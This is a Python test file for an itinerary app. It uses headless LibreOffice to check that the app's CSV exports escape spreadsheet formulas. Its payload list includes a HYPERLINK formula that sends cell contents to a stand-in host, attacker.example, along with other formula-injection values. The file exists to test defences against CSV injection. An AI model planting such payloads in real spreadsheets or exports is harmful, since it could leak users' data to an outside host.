"""Exports opened by a spreadsheet engine nobody here wrote: LibreOffice Calc, headless.

The plan's CSV (``exports.csv_bytes``) and the data-contract backup (``transfer.export_files``)
are converted by ``soffice --headless --convert-to ods``; the test then reads the ODS cells. A
cell LibreOffice evaluated carries ``table:formula`` (``=1+1`` becomes the number 2, a
``=HYPERLINK`` a link); a guarded one is a string cell that shows the guarded text. A control
file with the raw payloads proves that this LibreOffice does evaluate formulas on CSV import, so
the test would fail without the guard.

LibreOffice reads only ``=`` as a formula start in CSV; Excel and Google Sheets also ``+ - @``.
Those payloads are included anyway (no cell may become a formula), and ``tests/unit/test_cells.py``
checks that the guard covers every start character.

Needs ``soffice`` (Debian: ``apt-get install --no-install-recommends libreoffice-calc-nogui``,
``make spreadsheet``). Missing, the tests skip with that message, except under ``CI=true``.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import xml.etree.ElementTree as ET
import zipfile
from collections.abc import Iterator
from datetime import datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from itinerary import exports, seed, store, transfer
from itinerary.accounts import ADMIN, ALL_CITIES, Account
from itinerary.cells import guard_formula
from tests.unit.test_seed import edit_cell

PAYLOADS = (
    '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
    "=1+1",
    "+1+1",
    "@SUM(1,1)",
    "-1+1",
)
ADMIN_ACCOUNT = Account("ada", ADMIN, frozenset({ALL_CITIES}))
SOFFICE = os.environ.get("CITYPLUS_SOFFICE") or shutil.which("soffice") or "/usr/bin/soffice"
CONVERT_TIMEOUT = 300  # seconds; a first start on a busy 2-core machine takes a while

_NS = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
}
_FORMULA = f"{{{_NS['table']}}}formula"
_VALUE_TYPE = f"{{{_NS['office']}}}value-type"
_REPEAT = f"{{{_NS['table']}}}number-columns-repeated"


def _need_soffice() -> str:
    if Path(SOFFICE).is_file() and os.access(SOFFICE, os.X_OK):
        return SOFFICE
    message = (
        f"LibreOffice (soffice) not found at {SOFFICE}: install it with "
        "'apt-get install --no-install-recommends libreoffice-calc-nogui' (or 'make spreadsheet')"
    )
    if os.environ.get("CI") == "true":
        pytest.fail(message)
    pytest.skip(message)


@pytest.fixture(scope="module")
def profile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """A LibreOffice user profile of its own: no clash with a desktop session, nothing left behind."""
    _need_soffice()
    path = tmp_path_factory.mktemp("lo-profile")
    yield path
    shutil.rmtree(path, ignore_errors=True)


def convert(
    files: dict[str, bytes], folder: Path, profile: Path
) -> dict[str, list[list[tuple[str, bool, str]]]]:
    """Convert CSV files with LibreOffice (one run) and read each back as rows of
    (shown text, evaluated as a formula, value type)."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, raw in files.items():
        path = folder / name
        path.write_bytes(raw)
        paths.append(str(path))
    out = folder / "ods"
    result = subprocess.run(
        [
            SOFFICE,
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            "--norestore",
            # comma, double quote, UTF-8 (76), from line 1: how a spreadsheet user opens our files
            "--infilter=CSV:44,34,76,1",
            "--convert-to",
            "ods",
            "--outdir",
            str(out),
            *paths,
        ],
        capture_output=True,
        text=True,
        timeout=CONVERT_TIMEOUT,
        check=False,
    )
    sheets = {}
    for name in files:
        ods = out / (Path(name).stem + ".ods")
        assert ods.is_file(), f"LibreOffice did not convert {name}: {result.stdout} {result.stderr}"
        sheets[name] = _cells(ods)
    return sheets


def _cells(ods: Path) -> list[list[tuple[str, bool, str]]]:
    with zipfile.ZipFile(ods) as archive:
        root = ET.fromstring(archive.read("content.xml"))
    rows = []
    for row in root.iterfind(".//table:table-row", _NS):
        cells: list[tuple[str, bool, str]] = []
        for cell in row.iterfind("table:table-cell", _NS):
            shown = "\n".join("".join(p.itertext()) for p in cell.iterfind("text:p", _NS))
            entry = (shown, _FORMULA in cell.attrib, cell.get(_VALUE_TYPE, ""))
            cells += [entry] * int(cell.get(_REPEAT, "1"))
        rows.append(cells)
    return rows


def _column(rows: list[list[tuple[str, bool, str]]], header: str) -> list[tuple[str, bool, str]]:
    index = [shown for shown, _, _ in rows[0]].index(header)
    return [row[index] for row in rows[1:] if len(row) > index and row[index][0]]


def _control_csv() -> bytes:
    """The payloads unguarded, quoted as our writers quote them: what the guard protects against."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(["name"])
    writer.writerows([payload] for payload in PAYLOADS)
    return out.getvalue().encode("utf-8")


def _plan() -> exports.ExportPlan:
    tz = ZoneInfo("Asia/Shanghai")
    start = datetime(2026, 12, 5, 9, 0, tzinfo=tz)
    stops = tuple(
        exports.ExportStop(
            id=f"stop-{n}",
            name=payload,
            name_zh=payload,
            lat=22.5 + n / 100,
            lon=114.05,
            arrive=start + timedelta(hours=n),
            depart=start + timedelta(hours=n, minutes=30),
            address=payload,
            note=payload,
        )
        for n, payload in enumerate(PAYLOADS)
    )
    return exports.ExportPlan(
        title="Formula test", city_name="Shenzhen", timezone="Asia/Shanghai", mode="walk", url="", stops=stops
    )


def test_this_libreoffice_evaluates_unguarded_formulas(tmp_path: Path, profile: Path) -> None:
    """The control: without the guard, LibreOffice runs the formula (so the other tests can fail)."""
    [column] = [
        _column(rows, "name") for rows in convert({"raw.csv": _control_csv()}, tmp_path, profile).values()
    ]
    by_payload = dict(zip(PAYLOADS, column, strict=True))
    assert by_payload["=1+1"] == ("2", True, "float")
    assert by_payload['=HYPERLINK("http://attacker.example/?x="&A1,"click")'][:2] == ("click", True)


def test_plan_csv_opens_as_text_in_libreoffice(tmp_path: Path, profile: Path) -> None:
    plan = _plan()
    rows = convert({"plan.csv": exports.csv_bytes(plan)}, tmp_path, profile)["plan.csv"]
    assert not [cell for row in rows for cell in row if cell[1]], "a cell was evaluated as a formula"
    for header in ("name", "name_zh", "address", "note"):
        column = _column(rows, header)
        assert column == [(guard_formula(p), False, "string") for p in PAYLOADS], header


@pytest.fixture
def hostile_store(db_url: str, mini_dir: Path) -> store.Store:
    """The mini data set with Shenzhen's first five landmarks named after the payloads."""
    ids = ["ping-an-finance-center", "lianhuashan-park", "huaqiang-north", "oct-loft", "dongmen-night-snacks"]
    for landmark_id, payload in zip(ids, PAYLOADS, strict=True):
        edit_cell(mini_dir, "landmarks.csv", landmark_id, "name", payload)
        edit_cell(mini_dir, "landmarks.csv", landmark_id, "summary", payload)
    db = store.open_store(db_url)
    db.replace_all(seed.load_dir(mini_dir))
    return db


def test_data_contract_export_opens_as_text_in_libreoffice(
    hostile_store: store.Store, tmp_path: Path, profile: Path
) -> None:
    files = transfer.export_files(hostile_store, "shenzhen")
    sheets = convert(files, tmp_path, profile)
    for name, rows in sheets.items():
        evaluated = [cell for row in rows for cell in row if cell[1]]
        assert not evaluated, f"{name}: cells evaluated as formulas: {evaluated}"
    for header in ("name", "summary"):
        shown = [cell for cell in _column(sheets["landmarks.csv"], header) if cell[0].lstrip("'") in PAYLOADS]
        assert sorted(shown) == sorted((guard_formula(p), False, "string") for p in PAYLOADS), header
    # and the app's own importer reads the guarded export back unchanged
    plan = transfer.preview(hostile_store, transfer.Upload.of(files), ADMIN_ACCOUNT)
    assert plan.ok and not plan.rows, plan.report()
